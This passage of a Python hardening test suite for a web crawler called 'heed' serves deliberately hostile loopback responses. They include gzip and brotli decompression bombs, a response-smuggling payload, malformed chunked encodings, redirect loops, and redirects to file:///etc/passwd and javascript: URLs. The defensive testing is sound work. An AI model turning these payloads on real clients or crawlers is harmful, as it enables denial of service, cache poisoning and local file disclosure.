"""The hostile-server suite: heed crawls scripted
servers on loopback that drip, lie, bomb, loop, reset, storm and trap, and
is judged from each server's own log, its exit status, its peak RSS and
its store.

Every scenario has its own loopback address (127.0.0.1xx; a second site,
when the scenario needs one, on 127.0.1.1xx), its own port, its own names
(sNN.hostile.test, oNN.hostile.test, and vJ.sNN.hostile.test for sites
sharing the first address, answered by this test's dnsmasq) and its own
store. Several scenarios run at once (HEED_HOSTILE_JOBS, 8), the
longest first. In EVERY scenario:

  - heed ends by itself within the scenario's time bound (killed after);
  - its exit status is 0 or 1, never a signal (under ASan/UBSan, with
    abort_on_error=1, a memory error is a SIGABRT), and its standard error
    holds no sanitizer report;
  - its peak RSS (ru_maxrss of the process, from wait4 in a small
    launcher process, see LAUNCHER; under ASan with a 16 MB quarantine,
    see heed_env) is under 150 MB;
  - no media URL was requested; no host got two requests under 1 s apart
    (kernel receive stamps from the server's log);
  - the store passes PRAGMA integrity_check, and `heed export` writes
    JSON Lines and CSV that Python's json and csv read back, row for row.

  - the CSV cell of every title is its JSON value, with a leading ' where
    a spreadsheet would run it as a formula;

and then the scenario's own assertions. A scenario that fails because of
heed is reported as a failure (never skipped), with the evidence, unless
it is listed in KNOWN_BUGS: then it is reported as a "known bug" and the
rest still counts (and it fails once it passes, to come off the list).
The suite is meson's suite 'hostile', run under ASan by scripts/test.
HEED_HOSTILE_ONLY=name,name runs a few while iterating; HEED_HOSTILE_KEEP=1
keeps every scenario's folder (store, heed's output, server-log.json),
which a failing scenario always keeps.
"""

import csv
import io
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
import traceback
import zlib
from concurrent.futures import ThreadPoolExecutor

from heedtest import HEED, Checks, Dnsmasq, stop_process
from hostile import (HTML, TEXT, XML, HostileServer, brotli_bomb, gzip_bomb,
                     head, html, is_media, not_found, ok, raw, redirect,
                     repeat, reserve_port, robots_allow, seq, stream)

# Scenarios heed fails today, each a real bug left for its owner: the
# runner still runs them and reports "known bug" (not a failure) while they
# fail, and a failure when one passes, so that the list stays true.
KNOWN_BUGS = {}

JOBS = int(os.environ.get("HEED_HOSTILE_JOBS", "8"))
ONLY = [n for n in os.environ.get("HEED_HOSTILE_ONLY", "").split(",") if n]
KEEP = os.environ.get("HEED_HOSTILE_KEEP") == "1"  # keep every tmp folder
RSS_LIMIT_MB = 150
DEFAULT_TIMEOUT = 60  # seconds for one crawl
DOMAIN = "hostile.test"
VHOSTS = 8  # extra names of each scenario's address (Site.vhost)
MIB = 1 << 20

# Shorter waits where a scenario is not about them; never the 1 s
# politeness delay.
FAST = ["--set", "net.total_timeout_ms=5000",
        "--set", "net.first_byte_timeout_ms=3000",
        "--set", "net.connect_timeout_ms=2000"]
CONTACT = ["--contact-url", "https://example.org/bots",
           "--contact-email", "ops@example.org"]


# ----- scenarios ---------------------------------------------------------

SCENARIOS = []


def scenario(args=(), timeout=DEFAULT_TIMEOUT, weight=5, fast=True):
    """Registers fn(site) -> check(result) as a scenario. args: extra
    `heed crawl` arguments; weight: expected seconds (longest run first);
    fast=False leaves heed's own network timeouts."""
    def deco(fn):
        SCENARIOS.append({"name": fn.__name__, "fn": fn, "args": list(args),
                          "timeout": timeout, "weight": weight,
                          "fast": fast})
        return fn
    return deco


class Site:
    """What a scenario sets up: its names, addresses, ports, scripts."""

    def __init__(self, index, tmp):
        self.index = index
        self.tmp = tmp
        self.host = f"s{index:02d}.{DOMAIN}"
        self.address = f"127.0.0.{100 + index}"
        # Bound now, listened on later: a port merely probed free here
        # was once taken by another suite before its server started.
        self.sock = reserve_port(self.address)
        self.port = self.sock.getsockname()[1]
        self.other_host = f"o{index:02d}.{DOMAIN}"
        self.other_address = f"127.0.1.{100 + index}"
        self.other_sock = reserve_port(self.other_address)
        self.other_port = self.other_sock.getsockname()[1]
        self.script = None
        self.other_script = None
        self.seeds = None
        self.crawls = [[]]  # extra arguments of each crawl, in order
        self.skip_reason = None
        self.secret = None  # a local file's content that must stay local

    def vhost(self, j):
        """The j-th extra name (0..VHOSTS-1) of the scenario's address:
        name-based virtual hosts on one server (shared hosting)."""
        return f"v{j}.s{self.index:02d}.{DOMAIN}"

    def vurl(self, j, path="/"):
        return f"http://{self.vhost(j)}:{self.port}{path}"

    def url(self, path="/"):
        return f"http://{self.host}:{self.port}{path}"

    def other_url(self, path="/"):
        return f"http://{self.other_host}:{self.other_port}{path}"

    def serve(self, script, default=None):
        self.script, self.default = script, default

    def serve_other(self, script):
        self.other_script = script


class Result:
    def __init__(self, site):
        self.site = site
        self.log = []
        self.other_log = []
        self.runs = []  # {"rc", "elapsed", "rss_mb", "stdout", "stderr"}
        self.records = []
        self.csv_rows = []
        self.store = os.path.join(site.tmp, "heed.db")
        self.failures = []
        self.notes = []

    # The last crawl, for scenarios with one.
    @property
    def rc(self):
        return self.runs[-1]["rc"]

    @property
    def stdout(self):
        return self.runs[-1]["stdout"]

    @property
    def stderr(self):
        return self.runs[-1]["stderr"]

    def fail(self, msg):
        self.failures.append(msg)

    def check(self, cond, msg):
        if not cond:
            self.fail(msg)
        return cond

    def paths(self, log=None):
        return [e["path"] for e in (self.log if log is None else log)]

    def count(self, path):
        return sum(1 for e in self.log if e["path"] == path)

    def entries(self, path):
        return [e for e in self.log if e["path"] == path]

    def db(self, sql, *params):
        con = sqlite3.connect(self.store)
        try:
            return con.execute(sql, params).fetchall()
        finally:
            con.close()

    def record(self, path):
        """The exported record of the URL path on the scenario's site."""
        url = self.site.url(path)
        for r in self.records:
            if r.get("url") == url:
                return r
        return None

    def dump(self):
        """Every value of every table of the store, as one string."""
        con = sqlite3.connect(self.store)
        out = []
        try:
            # The full-text index's virtual table needs heed's own FTS5
            # tokenizer to be read; its shadow tables hold the same
            # values and are plain tables.
            tables = [t for (t,) in con.execute(
                "SELECT name FROM sqlite_master WHERE type='table' AND "
                "sql NOT LIKE 'CREATE VIRTUAL TABLE%'")]
            for t in tables:
                for row in con.execute(f'SELECT * FROM "{t}"'):
                    for v in row:
                        if isinstance(v, bytes):
                            v = v.decode("latin-1")
                        out.append(str(v))
        finally:
            con.close()
        return "\n".join(out)

    def summary_line(self):
        return " | ".join(
            f"exit {r['rc']}, {r['elapsed']:.1f} s, {r['rss_mb']:.0f} MB"
            for r in self.runs)


# ----- running one scenario ---------------------------------------------

# Linux keeps a process's peak RSS across exec (the old image's high-water
# mark is folded into ru_maxrss), so heed started by this test, whose
# memory grows to a hundred MB with the bombs and big pages it serves,
# would report the test's RSS, not its own. heed is therefore started by
# a small launcher (a fresh Python of about 10 MB), started before the test
# grows: one request a line on its stdin, one answer a line on its stdout.
LAUNCHER = r"""
import json, os, subprocess, sys, threading, time
lock = threading.Lock()
def run(req):
    t0 = time.monotonic()
    with open(req["out"], "w") as fo, open(req["err"], "w") as fe:
        proc = subprocess.Popen(req["args"], stdout=fo, stderr=fe,
                                stdin=subprocess.DEVNULL, env=req["env"])
    killed = False
    while True:  # bounded by the deadline, then by the kill
        pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
        if pid:
            break
        if not killed and time.monotonic() - t0 > req["timeout"]:
            proc.kill()
            killed = True
        time.sleep(0.05)
    ans = {"id": req["id"], "rc": os.waitstatus_to_exitcode(status),
           "elapsed": time.monotonic() - t0, "killed": killed,
           "rss_mb": usage.ru_maxrss / 1024}
    with lock:
        sys.stdout.write(json.dumps(ans) + "\n")
        sys.stdout.flush()
for line in sys.stdin:
    threading.Thread(target=run, args=(json.loads(line),)).start()
"""


class Launcher:
    def __init__(self):
        self.proc = subprocess.Popen([sys.executable, "-c", LAUNCHER],
                                     stdin=subprocess.PIPE,
                                     stdout=subprocess.PIPE, text=True)
        self.lock = threading.Lock()
        self.waiting = {}  # id -> [Event, answer]
        self.next_id = 0
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self):
        for line in self.proc.stdout:
            ans = json.loads(line)
            with self.lock:
                slot = self.waiting.pop(ans["id"])
            slot[1] = ans
            slot[0].set()

    def run(self, args, out, err, timeout):
        """{"rc", "elapsed", "killed", "rss_mb"} of one run of args."""
        slot = [threading.Event(), None]
        with self.lock:
            self.next_id += 1
            rid = self.next_id
            self.waiting[rid] = slot
            self.proc.stdin.write(json.dumps({
                "id": rid, "args": args, "out": out, "err": err,
                "timeout": timeout, "env": heed_env()}) + "\n")
            self.proc.stdin.flush()
        if not slot[0].wait(timeout + 30):
            raise RuntimeError("the launcher did not answer")
        return slot[1]

    def close(self):
        self.proc.stdin.close()
        stop_process(self.proc)


def heed_env():
    """heed's environment. Under AddressSanitizer, freed memory is held in
    a quarantine of 256 MB by default, which counts in the RSS but is not
    heed's: 16 MB keep use-after-free detection for the latest frees and
    let the peak RSS say mostly what heed itself holds. The quarantine's
    RSS is some 2.5 times its size, its chunks' redzones and the size
    classes they leave behind: links_100k, whose 20,000 frontier inserts
    malloc and free 175 MB inside SQLite, peaks at 46 MB without ASan, 69
    with it and no quarantine, 109 with 16 MB and 151 with 32 MB (main at
    bfb969b; 41, 58 and 129 MB at 4023c47, whose inserts freed 60 %
    fewer bytes inside SQLite)."""
    env = dict(os.environ)
    opts = env.get("ASAN_OPTIONS", "")
    if "quarantine_size_mb" not in opts:
        env["ASAN_OPTIONS"] = (opts + ":" if opts else "") + \
            "quarantine_size_mb=16"
    return env


def run_crawl(site, extra, timeout):
    """Runs `heed crawl` on the site; returns its run dict. The peak RSS is
    heed's ru_maxrss (wait4, in the launcher), exact however short the
    peak."""
    out = os.path.join(site.tmp, "stdout")
    err = os.path.join(site.tmp, "stderr")
    seeds = site.seeds or [site.url("/")]
    if extra and isinstance(extra[-1], list):  # seeds of this crawl
        extra, seeds = extra[:-1], extra[-1]
    args = [HEED, "crawl", "--store", os.path.join(site.tmp, "heed.db"),
            "--dns-server", DNS.server, "--allow-private", *CONTACT,
            *extra, *seeds]
    run = LAUNCH.run(args, out, err, timeout)
    with open(out, errors="replace") as f:
        run["stdout"] = f.read()
    with open(err, errors="replace") as f:
        run["stderr"] = f.read()
    run["args"] = args[1:]
    return run


def heed_out(*args):
    proc = subprocess.run([HEED, *args], capture_output=True, timeout=60)
    return proc.returncode, proc.stdout, proc.stderr.decode(errors="replace")


SANITIZER_MARKS = ("ERROR: AddressSanitizer", "ERROR: LeakSanitizer",
                   "runtime error:", "AddressSanitizer:DEADLYSIGNAL",
                   "ERROR: UndefinedBehaviorSanitizer")


def sanitizer_report(text):
    for mark in SANITIZER_MARKS:
        i = text.find(mark)
        if i >= 0:
            lines = text[i:].splitlines()
            return " / ".join(line.strip() for line in lines[:8])
    return None


def gaps_under(logs, delay=1.0):
    """[(host, gap, path before, path after)] of same-host request starts
    closer than delay."""
    by_host = {}
    for e in logs:
        by_host.setdefault(e["host"] or e.get("address", "?"), []).append(e)
    out = []
    for host, es in by_host.items():
        es.sort(key=lambda e: e["start"])
        for a, b in zip(es, es[1:]):
            if b["start"] - a["start"] < delay:
                out.append((host, round(b["start"] - a["start"], 4),
                            a["target"][:60], b["target"][:60]))
    return out


def generic_checks(r, sc):
    for i, run in enumerate(r.runs):
        tag = f"crawl {i + 1}: " if len(r.runs) > 1 else ""
        rc = run["rc"]
        if run["killed"]:
            r.fail(f"{tag}still running after {sc['timeout']} s: killed "
                   f"(requests seen: {len(r.log) + len(r.other_log)})")
        elif rc < 0:
            r.fail(f"{tag}killed by signal {signal.Signals(-rc).name}")
        elif rc not in (0, 1):
            r.fail(f"{tag}exit status {rc} (want 0 or 1)")
        rep = sanitizer_report(run["stderr"])
        if rep:
            r.fail(f"{tag}sanitizer: {rep[:600]}")
        if run["rss_mb"] > RSS_LIMIT_MB:
            r.fail(f"{tag}peak RSS {run['rss_mb']:.0f} MB > "
                   f"{RSS_LIMIT_MB} MB")
    media = [e["target"] for e in r.log + r.other_log if is_media(e["path"])]
    r.check(not media, f"media requested: {media[:5]}")
    short = gaps_under(r.log + r.other_log)
    r.check(not short, f"requests under 1 s apart (host, gap s, before, "
                       f"after): {short[:4]}")
    if not os.path.exists(r.store):
        r.fail("no store written")
        return
    try:
        ic = r.db("PRAGMA integrity_check")
        r.check(ic == [("ok",)], f"integrity_check: {ic[:3]}")
    except sqlite3.Error as e:
        r.fail(f"store unreadable: {e}")
        return
    secret = r.site.secret
    if secret:
        r.check(secret not in r.dump(),
                "a local file's content reached the store")
        r.check(not any(secret in e["target"] for e in r.log + r.other_log),
                "a local file's content was sent in a request")
    rc, out, err = heed_out("export", "--store", r.store)
    if not r.check(rc == 0, f"heed export: exit {rc}: {err[-300:]}"):
        return
    try:
        text = out.decode("utf-8")
    except UnicodeDecodeError as e:
        r.fail(f"heed export (jsonl) is not UTF-8: {e}")
        text = out.decode("utf-8", errors="replace")
    try:
        r.records = [json.loads(line) for line in text.splitlines()
                     if line.strip()]
    except ValueError as e:
        r.fail(f"heed export (jsonl) does not parse: {e}")
    rc, out, err = heed_out("export", "--store", r.store, "--format", "csv")
    if not r.check(rc == 0, f"heed export --format csv: exit {rc}: "
                            f"{err[-300:]}"):
        return
    try:
        r.csv_rows = list(csv.DictReader(io.StringIO(
            out.decode("utf-8"), newline="")))
    except (UnicodeDecodeError, csv.Error) as e:
        r.fail(f"heed export --format csv does not parse: {e}")
        return
    r.check(len(r.csv_rows) == len(r.records),
            f"csv has {len(r.csv_rows)} rows, jsonl {len(r.records)}")
    by_url = {row.get("url"): row for row in r.csv_rows}
    for rec in r.records:
        row = by_url.get(rec.get("url"))
        if not r.check(row is not None,
                       f"{rec.get('url')!r} in jsonl, not in csv"):
            continue
        r.check(row.get("title") == csv_cell(rec.get("title")),
                f"{rec.get('url')}: csv title {row.get('title')!r}, "
                f"jsonl title {rec.get('title')!r}")


def csv_cell(value):
    """What heed's CSV holds for a JSON value: "" for null, and a leading '
    before what a spreadsheet would run as a formula (docs/crawling.md)."""
    if value is None:
        return ""
    text = str(value)
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") \
        else text


def run_scenario(index, sc):
    tmp = tempfile.mkdtemp(prefix=f"heed-hostile-{sc['name']}-")
    site = Site(index, tmp)
    r = Result(site)
    servers = []
    try:
        check = sc["fn"](site)
        if site.skip_reason:
            return r, site.skip_reason
        life = sc["timeout"] * len(site.crawls) + 30
        servers.append(HostileServer(site.address, site.port, site.script,
                                     getattr(site, "default", None),
                                     max_seconds=life, sock=site.sock))
        if site.other_script is not None:
            servers.append(HostileServer(site.other_address,
                                         site.other_port,
                                         site.other_script,
                                         max_seconds=life,
                                         sock=site.other_sock))
        base = (FAST if sc["fast"] else []) + sc["args"]
        for extra in site.crawls:
            r.runs.append(run_crawl(site, base + extra, sc["timeout"]))
        for s in servers:
            s.close()
        r.log = servers[0].log()
        r.other_log = servers[1].log() if len(servers) > 1 else []
        generic_checks(r, sc)
        if check:
            try:
                check(r)
            except AssertionError as e:
                r.fail(str(e))
    except Exception:
        r.fail("test error: " + traceback.format_exc()[-800:])
    finally:
        for s in servers:
            s.close()
        site.sock.close()  # a second close of a server's socket is a no-op
        site.other_sock.close()
    if r.failures or KEEP:  # the evidence stays with the store
        with open(os.path.join(tmp, "server-log.json"), "w") as f:
            json.dump({"site": r.log, "other": r.other_log,
                       "runs": [{k: v for k, v in run.items()
                                 if k not in ("stdout", "stderr")}
                                for run in r.runs]}, f, indent=1)
    return r, None


# ----- the scenarios -------------------------------------------------------

def page_links(*links, title="hostile", extra=""):
    return ok(html(title, links, extra))


@scenario(weight=4)
def baseline(s):
    """A well-behaved site: the suite's yardstick."""
    s.serve({"/robots.txt": robots_allow(),
             "/": page_links("/a.html", title="Home"),
             "/a.html": page_links("/", title="Page A")})

    def check(r):
        r.check(r.record("/") and r.record("/")["title"] == "Home",
                f"home not stored: {[x['url'] for x in r.records]}")
        r.check(r.record("/a.html") is not None, "a.html not stored")
    return check


def by_host(table, default=None):
    """A handler answering by the request's Host name: table {name:
    handler}; default for names not in it (404)."""
    def h(ex):
        return table.get(ex.req.host, default or not_found)(ex)
    return h


def sent(r, path, log=None):
    """Bytes the server wrote for every request of the path."""
    return sum(e["sent"] for e in (r.log if log is None else log)
               if e["path"] == path)


def in_flight_peak(entries, slack=0.005):
    """The most requests of entries in flight at once: from the kernel's
    receive stamp to the server's last send (the client cannot have the
    answer earlier, and may start its next request right after; its end
    stamp would come later on a busy machine)."""
    events = []
    for e in entries:
        done = e["sent_at"] or e["end"] or e["start"]
        events.append((e["start"], 1))
        events.append((done - slack, -1))
    peak = now = 0
    for _, d in sorted(events, key=lambda x: (x[0], x[1])):
        now += d
        peak = max(peak, now)
    return peak


def not_stored(r, path):
    rec = r.record(path)
    r.check(rec is None, f"{path} stored: status {rec and rec['status']}, "
                         f"title {rec and rec.get('title')!r}")


def stored(r, path, title=None):
    rec = r.record(path)
    if not r.check(rec is not None, f"{path} not stored (stored: "
                   f"{[x['url'] for x in r.records][:8]})"):
        return None
    if title is not None:
        r.check(rec.get("title") == title,
                f"{path}: title {rec.get('title')!r}, want {title!r}")
    return rec


def at_most(r, path, n, log=None, least=1):
    """The path was requested between least (1: the scenario happened)
    and n times."""
    c = sum(1 for e in (r.log if log is None else log) if e["path"] == path)
    r.check(min(least, n) <= c <= n,
            f"{path} requested {c} times (want {min(least, n)} to {n})")


def elapsed_under(r, seconds):
    for run in r.runs:
        r.check(run["elapsed"] < seconds,
                f"the run took {run['elapsed']:.1f} s (want < {seconds})")


def bad_page(s, path, handler, tries=3):
    """The home page links to path, which handler answers badly: the home
    page is stored, path asked 1 to tries times and never stored."""
    s.serve({"/robots.txt": robots_allow(),
             "/": page_links(path, title="Home"), path: handler})

    def check(r):
        stored(r, "/", "Home")
        not_stored(r, path)
        at_most(r, path, tries)
    return check


def robots_sitemap(s, extra=""):
    return robots_allow(f"Sitemap: {s.url('/sitemap.xml')}\n{extra}")


def urlset(*locs):
    body = "".join(f"<url><loc>{u}</loc></url>" for u in locs)
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns='
            '"http://www.sitemaps.org/schemas/sitemap/0.9">'
            f"{body}</urlset>\n").encode()


# --- slow drip ---

@scenario(weight=35)
def drip_before_headers(s):
    """Silence, then a status line one byte a second: the first-byte
    timeout ends each try; nothing is stored."""
    def h(ex):
        if not ex.wait(8):
            return False
        ex.drip(head(200, [("Content-Type", HTML), ("Content-Length", "9")])
                + b"<p>x</p>\n", 1.0)
        return False
    base = bad_page(s, "/slow.html", h)

    def check(r):
        base(r)
        for e in r.entries("/slow.html"):
            r.check(e["sent"] == 0, f"a try of /slow.html waited for "
                    f"{e['sent']} bytes (the first-byte timeout is 3 s)")
    return check


@scenario(weight=35)
def drip_in_headers(s):
    """A status line at once, then header bytes 5 a second for minutes:
    the total timeout ends each try; nothing is stored."""
    def h(ex):
        ex.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n")
        ex.drip(b"X-Drip: " + b"a" * 2000 + b"\r\n\r\n", 0.2)
        return False
    return bad_page(s, "/slow.html", h)


@scenario(weight=35)
def drip_in_body(s):
    """Headers at once, then the body 20 bytes every 0.25 s: cut by the
    total timeout, never stored as a record."""
    body = html("Slow body", extra="<p>" + "x" * 4000 + "</p>")

    def h(ex):
        ex.send(head(200, [("Content-Type", HTML),
                           ("Content-Length", str(len(body)))]))
        ex.drip(body, 0.25, step=20)
        return False
    return bad_page(s, "/slow.html", h)


# --- endless and lying bodies ---

@scenario(weight=8)
def endless_body(s):
    """A chunked page that never ends: heed reads its 5 MiB cap and stops."""
    s.serve({"/robots.txt": robots_allow(),
             "/": page_links("/endless.html", title="Home"),
             "/endless.html": stream(200, [("Content-Type", HTML)],
                                     repeat(b"<p>endless page</p>\n", 1 << 40),
                                     chunked=True)})

    # Past the cap, what the server can send is what the sockets hold and
    # one read takes: heed's receive buffer (256 KiB, which Linux doubles),
    # the server's send buffer (64 KiB, doubled too), heed's last read
    # (64 KiB) and the server's last piece (64 KiB): 768 KiB in all.
    def check(r):
        stored(r, "/", "Home")
        at_most(r, "/endless.html", 1)
        n = sent(r, "/endless.html")
        r.check(n < 6 * MIB, f"heed read {n} bytes of an endless page "
                             f"(cap 5 MiB, buffers 768 KiB)")
    return check


@scenario(args=["--set", "net.max_body_bytes=65536"], weight=8)
def max_body_64k_endless(s):
    """net.max_body_bytes=65536 and an endless page (with and without
    Content-Length): the server's log shows heed stopped near 64 KiB."""
    s.serve({"/robots.txt": robots_allow(),
             "/": page_links("/endless.html", "/long.html", title="Home"),
             "/endless.html": stream(200, [("Content-Type", HTML)],
                                     repeat(b"<p>endless page</p>\n", 1 << 40),
                                     chunked=True, sndbuf=16384),
             "/long.html": stream(200, [("Content-Type", HTML),
                                        ("Content-Length", str(1 << 30))],
                                  repeat(b"<p>long page</p>\n", 1 << 30),
                                  sndbuf=16384)})

    def check(r):
        stored(r, "/", "Home")
        for p in ("/endless.html", "/long.html"):
            at_most(r, p, 1)
            n = sent(r, p)
            r.check(0 < n < 256 * 1024,
                    f"{p}: the server sent {n} bytes with "
                    f"net.max_body_bytes=65536 (want near 64 KiB)")
    return check


@scenario(args=["--set", "net.max_body_bytes=65536",
                "--set", "crawl.max_pages=3"], weight=8)
def max_body_64k_sitemap(s):
    """net.max_body_bytes=65536 and a 10 MiB sitemap: heed stops reading
    near 64 KiB, as for pages."""
    entry = f"<url><loc>{s.url('/p/x.html')}</loc></url>\n".encode()

    def gen():
        yield urlset()[:-len("</urlset>\n")]
        yield from repeat(entry, 10 * MIB)()
    s.serve({"/robots.txt": robots_sitemap(s, "Disallow: /p/\n"),
             "/": page_links(title="Home"),
             "/sitemap.xml": stream(200, [("Content-Type", XML)], gen,
                                    sndbuf=16384)})

    def check(r):
        n = sent(r, "/sitemap.xml")
        r.check(0 < n < 256 * 1024,
                f"the server sent {n} bytes of the sitemap with "
                f"net.max_body_bytes=65536 (want near 64 KiB)")
    return check


@scenario(weight=15)
def lying_length_longer(s):
    """Content-Length 100000, 300 bytes sent, connection closed: cut short,
    a network failure, never a record."""
    body = html("Liar")[:300]
    return bad_page(s, "/lie.html", raw(
        head(200, [("Content-Type", HTML), ("Content-Length", "100000")]) +
        body))


@scenario(weight=8)
def lying_length_shorter(s):
    """Content-Length shorter than the body, whose rest is a whole second
    answer (response smuggling): the next request of the connection must
    not be answered by it."""
    first = html("Short")
    smuggled = (head(200, [("Content-Type", HTML),
                           ("Content-Length", "60")]) +
                b"<html><head><title>SMUGGLED</title></head></html>" +
                b" " * 10)

    def h(ex):
        ex.send(head(200, [("Content-Type", HTML),
                           ("Content-Length", str(len(first)))]) +
                first + smuggled)
        return True
    s.serve({"/robots.txt": robots_allow(),
             "/": h,
             "/a.html": page_links(title="Page A"),
             "/b.html": page_links(title="Page B")})
    s.seeds = [s.url("/"), s.url("/a.html"), s.url("/b.html")]

    def check(r):
        r.check("SMUGGLED" not in r.dump(),
                "the smuggled answer was stored as another page's")
        for p, t in (("/a.html", "Page A"), ("/b.html", "Page B")):
            rec = r.record(p)
            if rec:
                r.check(rec.get("title") == t,
                        f"{p}: title {rec.get('title')!r}, want {t!r}")
    return check


@scenario(weight=8)
def duplicate_length_bad_chunks(s):
    """Two Content-Lengths that disagree; chunk sizes that are not hex;
    a chunk size of 2^64: refused answers, never records."""
    names = {
        s.vhost(0): raw(head(200, [("Content-Type", HTML),
                                   ("Content-Length", "10"),
                                   ("Content-Length", "5000")]) +
                        html("Twice") + b" " * 5000),
        s.vhost(1): raw(head(200, [("Content-Type", HTML),
                                   ("Transfer-Encoding", "chunked")]) +
                        b"zz\r\n" + html("Badchunk") + b"\r\n0\r\n\r\n"),
        s.vhost(2): raw(head(200, [("Content-Type", HTML),
                                   ("Transfer-Encoding", "chunked")]) +
                        b"10000000000000000\r\n" + html("Hugechunk")),
    }
    s.serve({"/robots.txt": robots_allow(), "/": by_host(names)})
    s.seeds = [s.vurl(j) for j in range(3)]

    def check(r):
        d = r.dump()
        for t in ("Twice", "Badchunk", "Hugechunk"):
            r.check(t not in d, f"the answer titled {t} was stored")
    return check


# --- bombs ---

def bomb(s, kind, prefix, fill, suffix=b""):
    """A gzip (1 GiB) or brotli (512 MiB) bomb of prefix, fill and suffix;
    None, and the scenario skipped, when no brotli encoder is here."""
    if kind == "gzip":
        return gzip_bomb(prefix, fill, 1024, suffix)
    data, why = brotli_bomb(prefix, fill, 512, suffix)
    s.skip_reason = why
    return data


def bomb_page(s, kind):
    data = bomb(s, kind, b"<html><head><title>Bomb</title></head><body><p>",
                b" ")
    s.serve({"/robots.txt": robots_allow(),
             "/": page_links("/bomb.html", title="Home"),
             "/bomb.html": ok(data, HTML, [("Content-Encoding", kind)])})
    return lambda r: (stored(r, "/", "Home"), at_most(r, "/bomb.html", 1))


def bomb_robots(s, kind):
    data = bomb(s, kind, b"User-agent: *\nDisallow: /private/\n",
                b"# padding\n")
    s.serve({"/robots.txt": ok(data, TEXT, [("Content-Encoding", kind)]),
             "/": page_links("/private/x.html", "/a.html", title="Home"),
             "/a.html": page_links(title="Page A")})

    def check(r):
        at_most(r, "/robots.txt", 3)
        r.check(r.count("/private/x.html") == 0,
                "/private/x.html requested although the first line of "
                "robots.txt disallows it")
    return check


def bomb_sitemap(s, kind):
    data = bomb(s, kind,
                urlset(s.url("/in-sitemap.html"))[:-len("</urlset>\n")],
                b"<!-- x -->\n", b"</urlset>\n")
    s.serve({"/robots.txt": robots_sitemap(s),
             "/": page_links(title="Home"),
             "/in-sitemap.html": page_links(title="In sitemap"),
             "/sitemap.xml": ok(data, XML, [("Content-Encoding", kind)])})
    return lambda r: (stored(r, "/", "Home"), at_most(r, "/sitemap.xml", 1))


def bomb_scenario(build, kind, name):
    """Registers build(s, kind) as the scenario name: gzip_bomb_page (a
    1 MB body that inflates to 1 GiB, read up to the cap), brotli_bomb_page
    (512 MiB), and the same for robots.txt (read up to 500 KiB) and
    sitemaps."""
    def fn(s):
        return build(s, kind)
    fn.__name__ = name
    scenario(weight=10)(fn)


for _what, _build in (("page", bomb_page), ("robots", bomb_robots),
                      ("sitemap", bomb_sitemap)):
    for _kind, _label in (("gzip", "gzip"), ("br", "brotli")):
        bomb_scenario(_build, _kind, f"{_label}_bomb_{_what}")


# --- redirects ---

@scenario(weight=12)
def redirect_loops(s):
    """/a -> /b -> /a, /self -> /self, /q?n -> /q?n+1 mod 3: each URL
    fetched a bounded number of times."""
    def qloop(ex):
        n = int(ex.req.query or 0)
        return redirect(f"/q?{(n + 1) % 3}")(ex)
    s.serve({"/robots.txt": robots_allow(),
             "/": page_links("/a", "/self", "/q?0", title="Home"),
             "/a": redirect("/b"), "/b": redirect(s.url("/a")),
             "/self": redirect("/self"), "/q": qloop})

    def check(r):
        stored(r, "/", "Home")
        for p in ("/a", "/b", "/self"):
            at_most(r, p, 2)
        at_most(r, "/q", 4)
    return check


@scenario(weight=70, timeout=120)
def redirect_chain_50(s):
    """A chain of 50 redirects before the page: bounded, one politeness
    slot per hop."""
    def hop(ex):
        n = int(ex.req.path.rsplit("/", 1)[1])
        return redirect(f"/r/{n + 1}" if n < 49 else "/end.html", 301)(ex)
    s.serve({"/robots.txt": robots_allow(),
             "/": page_links("/r/0", title="Home"),
             "/r/*": hop, "/end.html": page_links(title="End")})

    def check(r):
        hops = [e for e in r.log if e["path"].startswith("/r/")]
        r.check(len(hops) <= 50, f"{len(hops)} hops for a chain of 50")
        r.check(len(set(e["path"] for e in hops)) == len(hops),
                "a hop of the chain was requested twice")
    return check


@scenario(weight=40, timeout=90)
def redirect_endless_chain(s):
    """Each redirect leads to a new URL, forever: heed gives up after a
    bounded number of hops (crawl.max_depth, 20), not at max_pages."""
    def hop(ex):
        n = int(ex.req.path.rsplit("/", 1)[1])
        return redirect(f"/r/{n + 1}")(ex)
    s.serve({"/robots.txt": robots_allow(),
             "/": page_links("/r/0", title="Home"), "/r/*": hop})

    def check(r):
        hops = sum(1 for e in r.log if e["path"].startswith("/r/"))
        r.check(hops <= 21, f"{hops} hops of an endless redirect chain "
                            f"(want at most 21, crawl.max_depth 20)")
    return check


@scenario(weight=10)
def redirect_to_media(s):
    """Pages that redirect to video, images, PDFs, fonts: not followed."""
    s.serve({"/robots.txt": robots_allow(),
             "/": page_links("/go1", "/go2", "/go3", "/go4", title="Home"),
             "/go1": redirect("/media/film.mp4"),
             "/go2": redirect(s.url("/big/photo.JPG?size=9")),
             "/go3": redirect("/doc/report.pdf", 301),
             "/go4": redirect("/fonts/x.woff2", 307)})

    def check(r):
        stored(r, "/", "Home")
    return check


@scenario(weight=10)
def redirect_other_schemes(s):
    """Redirects to file:, ftp:, gopher:, javascript:, data:, https: of
    the same host (another site): none followed, no local file read."""
    s.secret = "root:x:0:0:"
    s.serve({"/robots.txt": robots_allow(),
             "/": page_links(*[f"/go{i}" for i in range(7)], title="Home"),
             "/go0": redirect("file:///etc/passwd"),
             "/go1": redirect(f"ftp://{s.host}:{s.port}/x"),
             "/go2": redirect(f"gopher://{s.host}:{s.port}/x"),
             "/go3": redirect("javascript:alert(1)"),
             "/go4": redirect("data:text/html,<title>DATA</title>"),
             "/go5": redirect(f"https://{s.host}:{s.port}/tls"),
             "/go6": redirect("//"),
             "/tls": page_links(title="TLS")})

    def check(r):
        stored(r, "/", "Home")
        r.check("DATA" not in r.dump(), "a data: URL was stored")
        at_most(r, "/x", 0)
        at_most(r, "/tls", 0)
    return check


@scenario(weight=10)
def redirect_other_site(s):
    """Redirects and links to another site (another name and address,
    another port of this host): never followed."""
    s.serve({"/robots.txt": robots_allow(),
             "/": page_links("/go", "/go2", s.other_url("/linked"),
                             title="Home"),
             "/go": redirect(s.other_url("/")),
             "/go2": redirect(f"http://{s.host}:{s.other_port}/port")})
    s.serve_other({"/robots.txt": robots_allow(),
                   "/": page_links(title="Other")})

    def check(r):
        r.check(not r.other_log, f"the other site was contacted: "
